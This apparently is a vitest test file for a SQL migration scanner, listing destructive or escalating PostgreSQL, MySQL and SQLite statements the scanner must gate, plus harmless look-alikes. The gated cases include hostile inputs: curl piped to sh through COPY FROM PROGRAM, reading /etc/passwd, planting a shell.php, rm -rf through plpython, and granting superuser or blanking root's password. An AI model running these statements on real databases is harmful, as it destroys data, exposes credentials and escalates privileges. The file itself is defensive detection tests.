/**
 * Migrations that really destroy data, expose rows or escalate privileges (the cases reported against the deny-list
 * scanner, and more of each class) are never `pass`; look-alikes that are harmless still pass.
 */
import { describe, expect, it } from 'vitest';
import type { Dialect } from '../../src/scan/types.js';
import { verdictOf } from '../../src/scan/types.js';
import { rulesIn, scanSql } from '../helpers/scan.js';

async function verdict(sql: string, dialect: Dialect = 'postgres') {
  const file = await scanSql(sql, dialect);
  return verdictOf(file.statements.flatMap((s) => s.findings.map((f) => f.severity)));
}

type Case = [sql: string, dialect: Dialect, rule: string];

const GATED: Case[] = [
  // Reported: PostgreSQL
  ['DROP TYPE mood CASCADE', 'postgres', 'drop-cascade'],
  ['DROP DOMAIN email_address CASCADE', 'postgres', 'drop-cascade'],
  ['DROP FUNCTION normalise(text) CASCADE', 'postgres', 'drop-cascade'],
  ['DROP VIEW active_users CASCADE', 'postgres', 'drop-cascade'],
  ['MERGE INTO users u USING banned b ON u.id = b.id WHEN MATCHED THEN DELETE', 'postgres', 'merge-delete'],
  ['ALTER TABLE users ALTER COLUMN email TYPE text USING NULL', 'postgres', 'alter-column-using'],
  ["COPY users FROM PROGRAM 'curl -s https://example.test/payload | sh'", 'postgres', 'server-access'],
  ['ALTER TABLE accounts DISABLE ROW LEVEL SECURITY', 'postgres', 'row-security-weakened'],
  ['DROP POLICY tenant_isolation ON accounts', 'postgres', 'row-security-weakened'],
  // Reported: MySQL / MariaDB
  ['CREATE OR REPLACE TABLE users (id int PRIMARY KEY)', 'mariadb', 'replace-table'],
  ['ALTER TABLE events DROP PARTITION p2024', 'mysql', 'drop-partition'],
  ['ALTER TABLE events TRUNCATE PARTITION p2024', 'mariadb', 'drop-partition'],
  // Reported: identity by text, every dialect
  ['CREATE TABLE scratch.users (id int);\nDROP TABLE users;', 'postgres', 'drop-table'],
  ['CREATE TABLE t_new (id int);\nALTER TABLE users RENAME TO t_new;\nDROP TABLE t_new;', 'postgres', 'drop-table'],
  ['CREATE TABLE scratch.users (id int);\nDROP TABLE users;', 'mysql', 'drop-table'],
  ['CREATE TABLE t_new (id int);\nRENAME TABLE users TO t_new;\nDROP TABLE t_new;', 'mysql', 'drop-table'],
  ['CREATE TABLE t_new (id int);\nALTER TABLE users RENAME TO t_new;\nDROP TABLE t_new;', 'mariadb', 'drop-table'],
  ['CREATE TABLE temp.users (id int);\nDROP TABLE main.users;', 'sqlite', 'drop-table'],
  ['CREATE TABLE t_new (id int);\nALTER TABLE users RENAME TO t_new;\nDROP TABLE t_new;', 'sqlite', 'drop-table'],
  // Same classes, other members
  ['CREATE TABLE "Users" (id int);\nDROP TABLE users;', 'postgres', 'drop-table'],
  ['CREATE TABLE Users (id int);\nDROP TABLE users;', 'mysql', 'drop-table'],
  ['SET search_path = scratch;\nCREATE TABLE users (id int);\nRESET search_path;\nDROP TABLE users;', 'postgres', 'drop-table'],
  ["CREATE TABLE users (id int);\nSELECT set_config('search_path', 'prod', false);\nTRUNCATE users;", 'postgres', 'truncate'],
  ['USE scratch;\nCREATE TABLE users (id int);\nUSE prod;\nDELETE FROM users;', 'mysql', 'delete-without-where'],
  ['CREATE SCHEMA s CREATE TABLE users (id int);\nDROP TABLE users;', 'postgres', 'drop-table'],
  ['CREATE TABLE archive.users (id int);\nALTER SCHEMA archive RENAME TO old;\nALTER SCHEMA public RENAME TO archive;\nDROP TABLE archive.users;', 'postgres', 'drop-table'],
  ['CREATE TABLE users_tmp (id int);\nALTER TABLE users SET SCHEMA archive;\nALTER TABLE archive.users RENAME TO users_tmp;\nDROP TABLE archive.users_tmp;', 'postgres', 'drop-table'],
  ['CREATE TEMP TABLE users (id int);\nDROP TABLE public.users;', 'postgres', 'drop-table'],
  ['ALTER TYPE address DROP ATTRIBUTE zip', 'postgres', 'drop-column'],
  ['ALTER TABLE users ALTER COLUMN id TYPE int USING 1', 'postgres', 'alter-column-using'],
  ['MERGE INTO users u USING keep k ON u.id = k.id WHEN NOT MATCHED BY SOURCE THEN DELETE', 'postgres', 'merge-delete'],
  ["COPY (SELECT * FROM users) TO '/var/lib/postgresql/leak.csv'", 'postgres', 'server-access'],
  ["SELECT lo_import('/etc/passwd')", 'postgres', 'server-access'],
  ["DO $$ BEGIN PERFORM pg_read_file('/etc/passwd'); END $$", 'postgres', 'server-access'],
  ["DO $$ DECLARE x text; BEGIN x := pg_read_file('/etc/passwd'); END $$", 'postgres', 'server-access'],
  ['DO $$ BEGIN IF pg_terminate_backend(1) THEN NULL; END IF; END $$', 'postgres', 'server-administration'],
  ['SELECT pg_terminate_backend(pid) FROM pg_stat_activity', 'postgres', 'server-administration'],
  ["SELECT dblink_exec('host=x', 'DROP TABLE users')", 'postgres', 'dynamic-sql'],
  ['ALTER TABLE accounts NO FORCE ROW LEVEL SECURITY', 'postgres', 'row-security-weakened'],
  ["DO LANGUAGE plpython3u $$ import os; os.system('rm -rf /var/lib/postgresql') $$", 'postgres', 'server-access'],
  ['DELETE FROM users WHERE true IS TRUE', 'postgres', 'delete-without-where'],
  ['UPDATE users SET email = NULL FROM orgs WHERE orgs.id = 1', 'postgres', 'update-without-where'],
  ['INSERT INTO users (id, email) SELECT id, NULL FROM users ON CONFLICT (id) DO UPDATE SET email = EXCLUDED.email', 'postgres', 'update-without-where'],
  ['SET session_replication_role = replica;\nDELETE FROM parents WHERE id = 1;', 'postgres', 'disable-safeguard'],
  ['ALTER TABLE orders DISABLE TRIGGER ALL', 'postgres', 'disable-safeguard'],
  ['GRANT pg_execute_server_program TO app', 'postgres', 'grant-role'],
  ['ALTER TABLE users OWNER TO intern', 'postgres', 'grant-all'],
  ['ALTER TABLE users SET UNLOGGED', 'postgres', 'volatile-storage'],
  ["UPDATE pg_catalog.pg_authid SET rolsuper = true WHERE rolname = 'app'", 'postgres', 'server-administration'],
  ['SELECT wipe_everything()', 'postgres', 'unclassified'],
  ['CALL archive_and_purge()', 'postgres', 'unclassified'],
  ["DO $$ BEGIN PERFORM wipe_everything(); END $$", 'postgres', 'unclassified'],
  ['CREATE EXTENSION adminpack', 'postgres', 'server-access'],
  ['ALTER TABLE users ENGINE=BLACKHOLE', 'mysql', 'volatile-storage'],
  ['ALTER TABLE users ENGINE=MEMORY', 'mariadb', 'volatile-storage'],
  ['CREATE OR REPLACE TABLE users AS SELECT 1 AS id', 'mariadb', 'replace-table'],
  ['SET sql_log_bin = 0', 'mysql', 'disable-safeguard'],
  ["SELECT * FROM users INTO OUTFILE '/tmp/users.csv'", 'mysql', 'server-access'],
  ["SELECT LOAD_FILE('/etc/passwd')", 'mysql', 'server-access'],
  ["UPDATE mysql.user SET authentication_string = '' WHERE User = 'root'", 'mysql', 'server-administration'],
  ['CALL sys.ps_truncate_all_tables(FALSE)', 'mysql', 'unclassified'],
  ['PRAGMA writable_schema = ON', 'sqlite', 'disable-safeguard'],
  ["SELECT load_extension('/tmp/x.so')", 'sqlite', 'server-access'],
  ["ATTACH DATABASE '/var/www/html/shell.php' AS shell", 'sqlite', 'server-access'],
];

/** Harmless look-alikes: keywords in strings, comments and identifiers, trigger procedures, and new tables. */
const PASSING: [sql: string, dialect: Dialect][] = [
  ["SELECT 'DROP TYPE mood CASCADE', 'COPY t FROM PROGRAM x'", 'postgres'],
  ['-- ALTER TABLE accounts DISABLE ROW LEVEL SECURITY\nSELECT 1', 'postgres'],
  ['/* MERGE INTO users USING b ON true WHEN MATCHED THEN DELETE */ SELECT 1', 'postgres'],
  ['SELECT 1 AS "DROP POLICY p ON t"', 'postgres'],
  ['CREATE TRIGGER audit AFTER INSERT ON orders FOR EACH ROW EXECUTE PROCEDURE audit_row()', 'postgres'],
  ['CREATE TRIGGER audit AFTER INSERT ON orders FOR EACH ROW EXECUTE FUNCTION audit_row()', 'postgres'],
  ["INSERT INTO notes (body) VALUES ('CREATE OR REPLACE TABLE users (id int)')", 'mariadb'],
  ['# ALTER TABLE events DROP PARTITION p1\nSELECT 1', 'mysql'],
  ['CREATE TABLE users (id int);\nDROP TABLE users;', 'postgres'],
  ['CREATE TABLE scratch.users (id int);\nDROP TABLE scratch.users;', 'postgres'],
  ['SET search_path = app;\nCREATE TABLE users (id int);\nDROP TABLE app.users;', 'postgres'],
  ['CREATE TEMP TABLE users (id int);\nDROP TABLE users;', 'postgres'],
  ['CREATE TABLE staging (id int);\nALTER TABLE staging RENAME TO staging2;\nDROP TABLE staging2;', 'postgres'],
  ['USE app;\nCREATE TABLE users (id int);\nDROP TABLE app.users;', 'mysql'],
  ['CREATE TABLE users (id int);\nDROP TABLE main.users;', 'sqlite'],
  ['CREATE TABLE Users (id int);\nDROP TABLE users;', 'sqlite'],
  ["CREATE FUNCTION touch() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN NEW.updated_at := now(); RETURN NEW; END $$", 'postgres'],
  ["SELECT pg_catalog.set_config('search_path', '', false)", 'postgres'],
  ['SET FOREIGN_KEY_CHECKS = 0', 'mysql'],
  ['PRAGMA foreign_keys = OFF', 'sqlite'],
  ["CREATE POLICY own_rows ON accounts USING (owner = current_user)", 'postgres'],
];

describe('fail closed: destructive or escalating migrations are gated', () => {
  for (const [sql, dialect, rule] of GATED) {
    it(`${dialect}: ${JSON.stringify(sql)} → ${rule}`, async () => {
      expect(await rulesIn(sql, dialect)).toContain(rule);
      expect(await verdict(sql, dialect)).not.toBe('pass');
    });
  }
});

describe('fail closed does not gate harmless look-alikes', () => {
  for (const [sql, dialect] of PASSING) {
    it(`${dialect}: ${JSON.stringify(sql)} passes`, async () => {
      expect(await verdict(sql, dialect)).toBe('pass');
    });
  }
});
